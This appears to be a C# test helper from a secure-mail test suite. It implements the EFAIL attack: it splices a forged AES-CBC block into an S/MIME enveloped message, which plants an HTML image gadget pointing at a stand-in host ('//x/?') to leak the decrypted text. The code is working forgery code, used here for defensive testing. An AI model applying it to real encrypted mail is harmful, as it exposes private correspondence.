using System.Formats.Asn1;
using System.Security.Cryptography.Pkcs;
using System.Security.Cryptography.X509Certificates;
using BaseComponents.SecureMail.Testing;

namespace BaseComponents.Tests.SecureMail.Forgeries;

/// <summary>Changes a mail in AES-CBC without its key: where sixteen octets of the text are known, any text can be put in, beside sixteen octets of noise.</summary>
internal static class Efail
{
    public const string Gadget = " <img src=\"//x/?";
    private const int Block = 16;

    /// <summary>The envelope of a content, with the gadget put in before the block where <paramref name="at"/> begins.</summary>
    public static string Spliced(string content, int at, ThrowAwayMailKey recipient)
    {
        var envelope = new EnvelopedCms(new ContentInfo(Forge.Bytes(content)));
        envelope.Encrypt(new CmsRecipient(X509Certificate2.CreateFromPem(recipient.CertificatePem)));
        var message = envelope.Encode();
        var (start, vector) = Find(message);
        var cipher = message.AsSpan(start).ToArray();
        var before = at / Block * Block;
        // The known block is the first one: its ciphertext, led in by the right vector, becomes the gadget.
        var lead = Xor(Xor(vector, Forge.Bytes(content[..Block])), Forge.Bytes(Gadget));
        byte[] spliced = [.. cipher[..before], .. lead, .. cipher[..Block], .. cipher[before..]];
        return Entity(Rebuilt(message, start, spliced));
    }

    private static byte[] Xor(byte[] one, byte[] other) => [.. one.Zip(other, (a, b) => (byte)(a ^ b))];

    private static string Entity(byte[] message) =>
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(message, Base64FormattingOptions.InsertLineBreaks) + "\r\n";

    // The ciphertext is the last field of the message.
    private static (int Start, byte[] Vector) Find(byte[] message)
    {
        var info = Fields(message).Info.ReadSequence();
        info.ReadObjectIdentifier();
        var algorithm = info.ReadSequence();
        algorithm.ReadObjectIdentifier();
        var vector = algorithm.ReadOctetString();
        return (message.Length - info.ReadOctetString(new Asn1Tag(TagClass.ContextSpecific, 0)).Length, vector);
    }

    private static (AsnReader Head, AsnReader Info) Fields(byte[] message)
    {
        var outer = new AsnReader(message, AsnEncodingRules.BER).ReadSequence();
        outer.ReadObjectIdentifier();
        var fields = outer.ReadSequence(new Asn1Tag(TagClass.ContextSpecific, 0)).ReadSequence();
        var head = fields.Clone();
        fields.ReadEncodedValue();
        fields.ReadEncodedValue();
        return (head, fields);
    }

    private static byte[] Rebuilt(byte[] message, int start, byte[] cipher) => SignedDataMaker.Encode(writer =>
    {
        var (head, info) = Fields(message);
        var old = info.ReadSequence();
        using var outer = writer.PushSequence();
        writer.WriteObjectIdentifier("1.2.840.113549.1.7.3");
        using var tagged = writer.PushSequence(new Asn1Tag(TagClass.ContextSpecific, 0));
        using var fields = writer.PushSequence();
        writer.WriteEncodedValue(head.ReadEncodedValue().Span);
        writer.WriteEncodedValue(head.ReadEncodedValue().Span);
        using var content = writer.PushSequence();
        writer.WriteEncodedValue(old.ReadEncodedValue().Span);
        writer.WriteEncodedValue(old.ReadEncodedValue().Span);
        writer.WriteOctetString(cipher, new Asn1Tag(TagClass.ContextSpecific, 0));
    });
}
